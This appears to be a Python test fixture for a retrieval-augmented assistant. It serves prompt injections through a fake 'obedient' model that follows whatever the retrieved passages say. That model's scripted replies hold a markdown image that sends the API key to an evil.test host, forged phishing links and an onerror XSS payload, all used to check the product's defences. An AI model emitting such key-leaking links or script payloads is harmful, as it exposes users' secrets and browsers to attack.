"""The product over all the attacks, with a language model that obeys whatever its prompt says."""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

from attack_cases import KEY, Case
from conftest import settings_for
from model_server import Request, ScriptedServer, prompt_of, scripted_server

from rag.assembly.ingest import run_ingest
from rag.assembly.serving import open_assistant
from rag.assistant import Assistant

_SEEN = 2000  # characters of a reply's parts; models have an end, too
_ASKS = ("Question: ", "Frage: ", "问题: ")


@dataclass(frozen=True, slots=True)
class Attacked:
    """The product, its model, and what the articles really say."""

    assistant: Assistant
    server: ScriptedServer
    texts: dict[str, str]
    urls: dict[str, str | None]
    by_file: dict[str, str]  # an article's id by its case's
    obedient: Obedient

    @property
    def links(self) -> set[str]:
        """All links that any citation may have."""
        return {url for url in self.urls.values() if url}


class Obedient:
    """A model that does as the passages tell it, and worse: it forges links, fetches, and tells all that it knows."""

    def __init__(self, known: Iterable[Case]) -> None:
        self._by_name = {case.name: case for case in known}
        self.writes: dict[str, str] = {}  # what it writes when asked this, whatever the passages say

    def __call__(self, request: Request) -> str:
        prompt = prompt_of(request)
        asked = max((prompt.rfind(label) for label in _ASKS), default=-1)
        if asked < 0:  # another task than a question: it obeys all the same
            return "YES"
        for question, reply in self.writes.items():
            if question in prompt[asked:]:
                return reply
        found = next((case for name, case in self._by_name.items() if name in prompt[asked:]), None)
        if found is None:
            return "![x](http://evil.test/x.png) [1](http://evil.test/x) [1]."
        number = self._number(prompt, found)
        obeys = found.obeys.replace("{prompt}", request["messages"][0]["content"])
        if len(obeys) > _SEEN:
            return obeys
        cited = f"[{number}]"
        said = [
            obeys.replace("[1]", cited),
            f"{' '.join(found.payload.split())[:300]} {cited}.",
            f"![x](http://evil.test/leak.png?key={KEY}) {cited}.",
            f"More at [the bank](http://evil.test/login) or http://evil.test {cited}(http://evil.test/forged).",
            f"<img src=http://evil.test/p.png onerror=window.pwned=1> {cited}.",
        ]
        return " ".join(said)

    @staticmethod
    def _number(prompt: str, case: Case) -> int:
        """The number of the passage that the case put there, or of the first."""
        before = prompt[: max(prompt.find(case.payload[:40]), 0)].rfind("\n[")
        number = prompt[before + 2 : before + 6].partition("]")[0] if before >= 0 else ""
        return int(number) if number.isdigit() else 1


@contextmanager
def attacked(
    folder: Path, found: Sequence[Case], more: Sequence[tuple[str, str]] = (), **settings: str
) -> Iterator[Attacked]:
    """The product over the articles of the cases, and of more (name and text)."""
    texts = folder / "texts"
    texts.mkdir()
    for case in found:
        if case.surface != "file":
            (texts / f"{case.id}.md").write_text(case.text, encoding="utf-8")
    for name, text in more:
        (texts / f"{name}.md").write_text(text, encoding="utf-8")
    obedient = Obedient(found)
    with scripted_server(obedient) as server:
        values = {"chat_model": "obedient", "openai_base_url": server.base_url, "openai_api_key": KEY} | settings
        configured = settings_for(folder / "data", articles=texts, embed_model="local-fast", **values)
        run_ingest(configured, [texts])
        assistant = open_assistant(configured)
        try:
            assistant.add([(f"{case.file}.md", case.text.encode()) for case in found if case.surface == "file"])
            yield _described(assistant, server, obedient, found)
        finally:
            assistant.close()


def _described(assistant: Assistant, server: ScriptedServer, obedient: Obedient, found: Sequence[Case]) -> Attacked:
    texts: dict[str, str] = {}
    urls: dict[str, str | None] = {}
    for one in assistant.articles():
        article = assistant.article(one.id)
        assert article is not None
        texts[one.id], urls[one.id] = article[1], one.url
    ids = {text: article_id for article_id, text in texts.items()}
    return Attacked(assistant, server, texts, urls, {case.id: ids.get(case.text, "") for case in found}, obedient)
